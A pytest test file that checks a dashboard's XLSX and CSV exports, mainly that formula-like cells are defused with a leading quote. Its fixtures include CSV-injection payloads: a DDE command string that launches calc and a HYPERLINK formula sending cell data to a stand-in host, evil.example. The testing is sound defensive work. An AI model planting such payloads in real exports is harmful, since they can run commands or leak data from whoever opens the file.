"""Tables leaving ctdash for a spreadsheet carry no cell a spreadsheet would run as a formula."""

import datetime as dt
import hashlib
import io

import openpyxl
import pandas as pd
import pytest
from sqlalchemy import event

from ctdash import audit, clock, export
from ctdash.models import Attachment, AttachmentBlob, FindingKind, FindingStatus, Role, Theme, Visibility
from ctdash.viewer import ANONYMOUS, Viewer
from tests.factories import make_finding, make_partner, make_project, make_user, viewer_for

FORMULA_LIKE = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example")',
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\t",
    "  =1+1",
    "\n=1+1",
]


@pytest.mark.parametrize("cell", FORMULA_LIKE)
def test_a_formula_like_cell_gets_a_quote_in_front(cell):
    assert export.spreadsheet_safe(pd.DataFrame({"Who": [cell]}))["Who"][0] == "'" + cell


@pytest.mark.parametrize("cell", ["Ada Admin", "kit: Member of Cornwall", "a-b = c", "", "'quoted"])
def test_ordinary_text_is_left_as_typed(cell):
    assert export.spreadsheet_safe(pd.DataFrame({"Who": [cell]}))["Who"][0] == cell


def test_numbers_dates_and_empty_cells_keep_their_type():
    frame = pd.DataFrame(
        {"count": [-1, 2], "when": pd.to_datetime(["2026-01-01", None], utc=True), "text": ["=1", None]}
    )
    safe = export.spreadsheet_safe(frame)
    assert safe.dtypes.to_dict() == frame.dtypes.to_dict()
    assert safe["count"].tolist() == [-1, 2] and safe["text"].isna().tolist() == [False, True]


@pytest.mark.parametrize("cell", ["\t=1+1", "\r=1+1"])
def test_the_audit_csv_defuses_a_cell_starting_with_a_tab_or_carriage_return(cell):
    csv = audit.to_csv(pd.DataFrame({"Who": [cell]})).decode("utf-8-sig")
    assert csv.splitlines()[1].lstrip('"').startswith("'")


# --- the findings library as a spreadsheet ---------------------------------------------------------

UTC = dt.UTC
ADMIN = Viewer(role=Role.ADMIN, name="Ada (test data)")
ATTACK = '=HYPERLINK("http://evil.example/?"&A1,"Open")'


def _themes(session, *names):
    themes = []
    for position, name in enumerate(names):
        theme = Theme(slug=f"export-test-{position}-{len(name)}", name=name, position=position)
        session.add(theme)
        themes.append(theme)
    session.flush()
    return themes


def _file(session, finding, name="notes.txt", *, data=b"notes (test data)", **fields):
    attachment = Attachment(
        finding=finding,
        filename=name,
        original_name=name,
        content_type=fields.pop("content_type", "text/plain"),
        size_bytes=fields.pop("size_bytes", len(data)),
        sha256=hashlib.sha256(data).hexdigest(),
        blob=AttachmentBlob(data=data),
        **fields,
    )
    session.add(attachment)
    session.flush()
    return attachment


def _tables(session, ids, viewer=ADMIN):
    return export.findings_tables(session, viewer=viewer, finding_ids=ids)


def _workbook(tables):
    return openpyxl.load_workbook(io.BytesIO(export.to_xlsx(tables)))


def _cells(frame):
    """A frame's rows as lists, with None for empty cells."""
    return frame.astype(object).where(frame.notna(), None).values.tolist()


def _sheet_rows(sheet):
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


def _library(session):
    """Three findings of one service: a published one with themes, files and every field, a bare draft,
    and a published one from a project."""
    partner = make_partner(session, name="Kernow Music Hub (test data)")
    project = make_project(session, partner, title="Listening to families (test data)")
    early, late = _themes(session, "Pricing (test data)", "Youth voice (test data)")
    full = make_finding(
        session,
        partner,
        title="Invoices stop families (test data)",
        kind=FindingKind.BARRIER,
        status=FindingStatus.PUBLISHED,
        visibility=Visibility.PUBLIC,
        summary="Families drop out **twice as often**.\n\n- after the second invoice",
        key_quote="We stopped when the second invoice came.",
        links="https://www.example.org/report\nhttps://www.example.org/data",
        cycle="2024-25",
        evidence_type="participation data",
        themes=[late, early],
        created_at=dt.datetime(2026, 1, 15, 12, 0, tzinfo=UTC),
        submitted_at=dt.datetime(2026, 7, 15, 23, 30, tzinfo=UTC),
        published_at=dt.datetime(2026, 7, 16, 9, 5, 30, tzinfo=UTC),
        updated_at=dt.datetime(2026, 7, 16, 9, 5, 30, tzinfo=UTC),
    )
    _file(
        session,
        full,
        "Attendance chart.png",
        content_type="image/png",
        size_bytes=2_500_000,
        consent=True,
        description="Attendance by term, as bars",
    )
    _file(session, full, "notes.txt", description=None)
    draft = make_finding(session, partner, title="Half an idea (test data)", kind=None)
    from_project = make_finding(
        session, partner, title="Rehearsal space (test data)", project=project, status=FindingStatus.PUBLISHED
    )
    return {"full": full, "draft": draft, "project": from_project}


def test_findings_come_one_a_row_in_the_order_given_with_every_column(session):
    made = _library(session)
    ids = [made["project"].id, made["full"].id, made["draft"].id]
    table = _tables(session, ids).findings
    assert list(table.columns) == list(export.FINDING_COLUMNS)
    assert table["Reference"].tolist() == [f"CT-{finding_id:06d}" for finding_id in ids]
    full = table.iloc[1]
    assert _cells(table)[1][:13] == [
        f"CT-{made['full'].id:06d}",
        "Invoices stop families (test data)",
        "Barrier",
        "Published",
        "Public",
        "Kernow Music Hub (test data)",
        None,
        "2024-25",
        "participation data",
        "Pricing (test data); Youth voice (test data)",  # in the vocabulary's order
        "Families drop out **twice as often**.\n\n- after the second invoice",  # markdown as typed
        "We stopped when the second invoice came.",
        "https://www.example.org/report\nhttps://www.example.org/data",
    ]
    assert (full["Attachments"], full["Example data"]) == (2, "No")
    assert table.iloc[0]["Research project"] == "Listening to families (test data)"
    draft = table.iloc[2]
    assert (draft["Status"], draft["Visibility"], draft["Attachments"]) == ("Draft", "Working group only", 0)
    assert draft[["Kind", "Themes", "Summary", "Key quote", "Links", "Submitted", "Published"]].isna().all()


def test_times_are_uk_wall_clock_times_to_the_second(session):
    full = _library(session)["full"]
    row = _tables(session, [full.id]).findings.iloc[0]
    assert row["Created"] == pd.Timestamp("2026-01-15 12:00:00")  # GMT in winter
    assert row["Submitted"] == pd.Timestamp("2026-07-16 00:30:00")  # BST: already the next day in the UK
    assert row["Published"] == pd.Timestamp("2026-07-16 10:05:30")
    assert row["Updated"].tzinfo is None


def test_attachments_are_listed_by_finding_in_the_order_given_with_their_metadata(session):
    made = _library(session)
    other = make_finding(session, made["full"].partner, title="Other (test data)")
    _file(session, other, "=cmd.txt", description="@risk", consent=False)
    attachments = _tables(session, [other.id, made["draft"].id, made["full"].id]).attachments
    assert list(attachments.columns) == list(export.ATTACHMENT_COLUMNS)
    assert _cells(attachments) == [
        [f"CT-{other.id:06d}", "Other (test data)", "=cmd.txt", "text/plain", 17, "17 bytes", "@risk", "No"],
        [
            f"CT-{made['full'].id:06d}",
            "Invoices stop families (test data)",
            "Attendance chart.png",
            "image/png",
            2_500_000,
            "2.4 MB",
            "Attendance by term, as bars",
            "Yes",
        ],
        [
            f"CT-{made['full'].id:06d}",
            "Invoices stop families (test data)",
            "notes.txt",
            "text/plain",
            17,
            "17 bytes",
            None,
            "No",
        ],
    ]


def test_a_visitor_gets_only_what_they_may_see_and_no_research_project(session):
    made = _library(session)
    ids = [made["draft"].id, made["project"].id, made["full"].id]
    tables = _tables(session, ids, viewer=ANONYMOUS)
    assert tables.findings["Title"].tolist() == ["Invoices stop families (test data)"]  # published and public
    assert tables.findings["Research project"].isna().all()
    assert len(tables.attachments) == 2
    member = viewer_for(make_user(session))  # of another service: sees what is published
    seen = _tables(session, ids, viewer=member).findings
    assert seen["Title"].tolist() == ["Rehearsal space (test data)", "Invoices stop families (test data)"]


def test_unknown_and_repeated_ids_are_left_out_once(session):
    full = _library(session)["full"]
    table = _tables(session, [full.id, 987_654_321, full.id]).findings
    assert table["Title"].tolist() == ["Invoices stop families (test data)"]


def test_no_ids_give_both_sheets_with_headers_only(session):
    tables = _tables(session, [])
    assert (len(tables.findings), len(tables.attachments)) == (0, 0)
    workbook = _workbook(tables)
    assert workbook.sheetnames == ["Findings", "Attachments"]
    assert _sheet_rows(workbook["Findings"]) == [list(export.FINDING_COLUMNS)]
    assert _sheet_rows(workbook["Attachments"]) == [list(export.ATTACHMENT_COLUMNS)]
    assert export.findings_csv(tables).decode("utf-8-sig").splitlines() == [",".join(export.FINDING_COLUMNS)]


def test_many_ids_take_three_queries_a_chunk_and_never_read_a_file(session, monkeypatch):
    monkeypatch.setattr(export, "ID_CHUNK", 4)
    partner = make_partner(session)
    (theme,) = _themes(session, "Only theme (test data)")
    made = [
        make_finding(session, partner, title=f"Finding {number} (test data)", themes=[theme]) for number in range(10)
    ]
    for finding in made[::3]:
        _file(session, finding)
    ids = [finding.id for finding in reversed(made)]
    statements = []
    listen = lambda *args: statements.append(args[2])  # noqa: E731 - (conn, cursor, statement, ...)
    event.listen(session.get_bind(), "before_cursor_execute", listen)
    try:
        tables = _tables(session, ids)
    finally:
        event.remove(session.get_bind(), "before_cursor_execute", listen)
    assert tables.findings["Title"].tolist() == [f"Finding {number} (test data)" for number in reversed(range(10))]
    assert tables.findings["Themes"].unique().tolist() == ["Only theme (test data)"]
    assert tables.findings["Attachments"].sum() == len(tables.attachments) == 4
    assert len(statements) == 9  # findings, themes and attachments, for each of 3 chunks
    assert not [statement for statement in statements if "attachment_blobs" in statement]


# --- what leaves for a spreadsheet --------------------------------------------------------------


def _hostile(session):
    """A finding whose every free-text field, and its service, project, theme and file, looks like a formula."""
    partner = make_partner(session, name="@SUM(1+1) service (test data)")
    project = make_project(session, partner, title="-2+3 project")
    (theme,) = _themes(session, "+theme")
    finding = make_finding(
        session,
        partner,
        project=project,
        title=ATTACK,
        summary="=1+1\n\nsummary",
        key_quote="  =cmd|' /C calc'!A0",
        links="=http://example.org",
        evidence_type="\t=evidence",
        themes=[theme],
    )
    _file(session, finding, "=file.txt", description="+description")
    return finding


def test_every_text_cell_that_looks_like_a_formula_is_defused_in_the_workbook(session):
    finding = _hostile(session)
    workbook = _workbook(_tables(session, [finding.id]))
    texts = [
        cell
        for sheet in workbook.worksheets
        for row in sheet.iter_rows(min_row=2)
        for cell in row
        if isinstance(cell.value, str)
    ]
    formula_like = {
        "Title",
        "Summary",
        "Key quote",
        "Links",
        "Evidence type",
        "Service",
        "Research project",
        "Themes",
        "Finding title",
        "File name",
        "Description",
    }
    headers = {sheet.title: [cell.value for cell in sheet[1]] for sheet in workbook.worksheets}
    defused = {headers[cell.parent.title][cell.column - 1] for cell in texts if cell.value.startswith("'")}
    assert defused == formula_like
    assert all(cell.data_type == "s" for cell in texts), "no cell is a formula"
    findings = workbook["Findings"]
    assert findings["B2"].value == "'" + ATTACK


def test_every_text_cell_that_looks_like_a_formula_is_defused_in_the_csv(session):
    finding = _hostile(session)
    frame = pd.read_csv(io.BytesIO(export.findings_csv(_tables(session, [finding.id]))), encoding="utf-8-sig")
    row = frame.iloc[0]
    for column in ("Title", "Summary", "Key quote", "Links", "Evidence type", "Service", "Research project", "Themes"):
        assert row[column].startswith("'"), column
    assert row["Title"] == "'" + ATTACK


def test_text_a_workbook_would_misread_stays_text(session):
    partner = make_partner(session)
    error_like = make_finding(session, partner, title="#N/A")
    control = make_finding(session, partner, title="Bell\x07 and tab\there (test data)")
    rows = _sheet_rows(_workbook(_tables(session, [error_like.id, control.id]))["Findings"])
    assert [row[1] for row in rows[1:]] == ["#N/A", "Bell and tab\there (test data)"]


def test_workbook_times_are_date_cells_and_the_header_is_bold_frozen_and_filtered(session):
    full = _library(session)["full"]
    workbook = _workbook(_tables(session, [full.id]))
    sheet = workbook["Findings"]
    headers = [cell.value for cell in sheet[1]]
    created = sheet.cell(row=2, column=headers.index("Created") + 1)
    assert created.is_date and created.value == dt.datetime(2026, 1, 15, 12, 0)
    assert created.number_format == "yyyy-mm-dd hh:mm"
    assert sheet.cell(row=2, column=headers.index("Published") + 1).value == dt.datetime(2026, 7, 16, 10, 5, 30)
    assert sheet.cell(row=2, column=headers.index("Attachments") + 1).value == 2
    for sheet in workbook.worksheets:
        assert sheet.freeze_panes == "A2"
        assert all(cell.font.b for cell in sheet[1])
        assert sheet.auto_filter.ref.startswith("A1:")
    summary = workbook["Findings"].cell(row=2, column=headers.index("Summary") + 1)
    assert summary.alignment.wrap_text and workbook["Findings"].column_dimensions["K"].width == 70
    size = workbook["Attachments"]["E2"]
    assert (size.value, size.data_type) == (2_500_000, "n")


def test_the_csv_has_a_byte_order_mark_and_keeps_accents(session):
    partner = make_partner(session, name="Bibliothèque musicale (test data)")
    finding = make_finding(session, partner, title="Café à la école: ça marche (test data)", summary="naïve – “quoted”")
    data = export.findings_csv(_tables(session, [finding.id]))
    assert data.startswith(b"\xef\xbb\xbf")
    text = data.decode("utf-8-sig")
    assert "Café à la école: ça marche (test data)" in text and "Bibliothèque musicale" in text
    assert "naïve – “quoted”" in text


def test_the_download_name_carries_todays_uk_date(monkeypatch):
    monkeypatch.setattr(clock, "now", lambda: dt.datetime(2026, 7, 15, 23, 30, tzinfo=UTC))
    assert export.file_name("xlsx") == "changing-tracks-findings-2026-07-16.xlsx"
